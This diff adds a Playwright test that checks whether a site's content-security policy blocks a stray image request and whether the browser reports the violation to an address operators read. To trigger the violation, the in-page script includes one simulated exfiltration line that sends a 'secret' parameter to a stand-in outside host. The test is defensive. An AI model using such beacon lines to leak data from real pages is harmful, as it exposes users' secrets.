@@ -1,0 +1,30 @@
+import { expect, test } from '../fixtures/site.ts';
+import { startTlsProxy } from '../fixtures/tls-proxy.ts';
+
+/** Browsers send reports over TLS alone, and collect them for a minute unless told not to. */
+const AT_ONCE = '--short-reporting-delay';
+
+test('what the page’s policy blocked is reported by the browser itself to the address the page names, and operators read it [T13]', async ({
+  playwright,
+  site,
+}) => {
+  const proxy = await startTlsProxy(site.origin);
+  const executablePath = process.env['CHROMIUM_PATH'];
+  const browser = await playwright.chromium.launch({
+    ...(executablePath ? { executablePath } : {}),
+    args: ['--no-sandbox', '--disable-gpu', AT_ONCE, proxy.trust],
+  });
+  const page = await browser.newPage();
+  await page.goto(`${proxy.origin}/404`);
+  await expect(page.getByRole('heading', { level: 1, name: '页面不存在' })).toBeVisible();
+
+  await page.evaluate(() => {
+    new Image().src = 'https://elsewhere.example/stolen.png?secret=1';
+  });
+
+  await expect
+    .poll(async () => (await site.ops.reports(1)).map(({ name, message, address }) => ({ name, message, address })), { timeout: 20_000 })
+    .toContainEqual({ name: 'csp-violation', message: 'img-src /stolen.png', address: '/404' });
+  await browser.close();
+  await proxy.stop();
+});
